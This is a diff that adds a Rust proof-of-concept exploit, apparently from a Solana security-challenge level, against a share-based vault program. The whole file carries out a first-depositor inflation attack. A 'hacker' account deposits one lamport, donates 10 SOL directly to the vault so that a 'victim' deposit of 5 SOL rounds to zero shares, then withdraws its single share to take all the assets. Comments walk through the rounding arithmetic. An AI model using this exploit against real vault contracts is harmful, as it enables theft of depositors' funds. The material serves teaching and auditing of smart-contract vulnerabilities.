@@ -0,0 +1,180 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        system_instruction,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum VaultInstruction {
+    Initialize,
+    OpenPosition,
+    Deposit { amount: u64 },
+    Withdraw { shares: u64 },
+}
+// We use the same Structures created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Vault {
+    pub total_shares: u64,
+}
+
+pub const VAULT_LEN: u64 = 8;
+
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Position {
+    pub owner: Pubkey,
+    pub shares: u64,
+}
+
+fn position_address(owner: Pubkey, programa: Pubkey) -> Pubkey {
+    Pubkey::find_program_address(&[&owner.to_bytes()], &programa).0
+}
+
+fn open_position(programa: Pubkey, owner: Pubkey) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(position_address(owner, programa), false),
+            AccountMeta::new(owner, true),
+            AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: VaultInstruction::OpenPosition.try_to_vec().unwrap(),
+    }
+}
+
+fn deposit(programa: Pubkey, vault: Pubkey, owner: Pubkey, amount: u64) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(vault, false),
+            AccountMeta::new(position_address(owner, programa), false),
+            AccountMeta::new(owner, true),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: VaultInstruction::Deposit { amount }.try_to_vec().unwrap(),
+    }
+}
+
+fn print_vault(env: &RemoteEnvironment, vault: Pubkey, positions: &[(&str, Pubkey)]) {
+    let assets = env.get_account(vault).unwrap().lamports - env.get_rent_excemption(VAULT_LEN as usize);
+    println!("{} {:?} {} {:?}", "Vault assets: ".bold().blue(), assets.blue(),
+    "total shares: ".bold().blue(), env.get_deserialized_account::<Vault>(vault).unwrap().total_shares.blue());
+    for (name, position) in positions {
+        println!("{} {} {:?}", name.bold().blue(), "shares: ".bold().blue(),
+        env.get_deserialized_account::<Position>(*position).unwrap().shares.blue());
+    }
+    println!("");
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level9-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let hacker = actors.get("hacker");
+    let victim = actors.get("victim");
+
+    let (vault, _) = Pubkey::find_program_address(&[&"VAULT".as_bytes()], &programa);
+    let hacker_position = position_address(hacker.pubkey(), programa);
+    let victim_position = position_address(victim.pubkey(), programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("payer"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(hacker.pubkey(), 11 * LAMPORTS_PER_SOL);
+    env.airdrop(victim.pubkey(), 6 * LAMPORTS_PER_SOL);
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+
+    /* First we are the first depositor: 1 lamport for 1 share */
+    env.execute_as_transaction(
+        &[
+            Instruction {
+                program_id: programa,
+                accounts: vec![
+                    AccountMeta::new(vault, false),
+                    AccountMeta::new(hacker.pubkey(), true),
+                    AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: VaultInstruction::Initialize.try_to_vec().unwrap(),
+            },
+            open_position(programa, hacker.pubkey()),
+            deposit(programa, vault, hacker.pubkey(), 1),
+        ],
+        &[&hacker],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*        FIRST DEPOSIT: 1 LAMPORT          *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    print_vault(&env, vault, &[("Hacker", hacker_position)]);
+
+    /* Second we donate 10 SOL straight to the vault: 1 share is now worth 10 SOL + 1 lamport */
+    env.execute_as_transaction(
+        &[system_instruction::transfer(&hacker.pubkey(), &vault, 10 * LAMPORTS_PER_SOL)],
+        &[&hacker],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*        DONATE 10 SOL TO THE VAULT        *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    print_vault(&env, vault, &[("Hacker", hacker_position)]);
+
+    /* Third the victim deposits 5 SOL: 5_000_000_000 * 1 / 10_000_000_001 = 0 shares */
+    env.execute_as_transaction(
+        &[
+            open_position(programa, victim.pubkey()),
+            deposit(programa, vault, victim.pubkey(), 5 * LAMPORTS_PER_SOL),
+        ],
+        &[&victim],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*          VICTIM DEPOSITS 5 SOL           *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    print_vault(&env, vault, &[("Hacker", hacker_position), ("Victim", victim_position)]);
+
+    /* Fourth our only share is all the assets: 1 * 15_000_000_001 / 1 */
+    env.execute_as_transaction(
+        &[Instruction {
+            program_id: programa,
+            accounts: vec![
+                AccountMeta::new(vault, false),
+                AccountMeta::new(hacker_position, false),
+                AccountMeta::new(hacker.pubkey(), true),
+            ],
+            data: VaultInstruction::Withdraw { shares: 1 }.try_to_vec().unwrap(),
+        }],
+        &[&hacker],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*          WITHDRAW OUR ONLY SHARE         *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    print_vault(&env, vault, &[("Hacker", hacker_position), ("Victim", victim_position)]);
+    println!("{} {:?}", "Hacker earned (minus rent of the vault and position): ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports as i64 - hacker_before as i64).green());
+    println!("");
+}